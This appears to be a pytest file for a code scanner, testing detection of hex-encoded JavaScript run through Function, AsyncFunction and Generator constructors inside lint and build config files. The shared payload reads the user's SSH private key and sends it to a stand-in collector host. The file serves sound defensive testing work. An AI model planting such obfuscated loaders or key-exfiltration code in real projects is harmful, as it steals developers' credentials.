"""Classes the seventeenth corpus set showed, each written from its shape (not from the instance),
with a look-alike on the other side that must keep its verdict.
"""

from __future__ import annotations

from pathlib import Path

from scanner_support import blocking

# ------------------------------------------------ code built by a function's own constructor

_SEND_KEYS = (
    'const h = require("https"), fs = require("fs"), os = require("os");'
    'const k = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519", "utf8");'
    'const q = h.request({ host: "keys.collector.example.test", method: "PUT" }); q.end(k);'
)


def test_async_function_constructor_running_hex_code_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const Make = Object.getPrototypeOf(async () => {}).constructor;\n"
        'new Make("require", Buffer.from(BLOB, "hex").toString("utf8"))(require);\n'
        "module.exports = { tabs: 2 };\n"
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"lint.config.cjs": js})


def test_generator_constructor_through_proto_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const G = (function* () {}).__proto__.constructor;\n"
        'G("require", Buffer.from(BLOB, "hex").toString())(require).next();\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"build.js": js})


def test_function_constructor_held_in_a_variable_blocks(tmp_path: Path) -> None:
    js = (
        f'const BLOB = "{_SEND_KEYS.encode().hex()}";\n'
        "const Fn = (0, Function);\n"
        'Fn("require", Buffer.from(BLOB, "hex").toString())(require);\n'
    )
    assert "SY-FLOW-001" in blocking(tmp_path, {"plugin.js": js})


def test_async_function_prototype_used_for_a_type_check_does_not_block(tmp_path: Path) -> None:
    js = (
        "const AsyncFn = Object.getPrototypeOf(async () => {}).constructor;\n"
        "function isAsync(f) { return f instanceof AsyncFn; }\n"
        'const table = Buffer.from("68656c6c6f20776f726c64", "hex").toString();\n'
        "module.exports = { isAsync, table, printWidth: 100 };\n"
    )
    assert blocking(tmp_path, {"prettier.config.cjs": js}) == {}
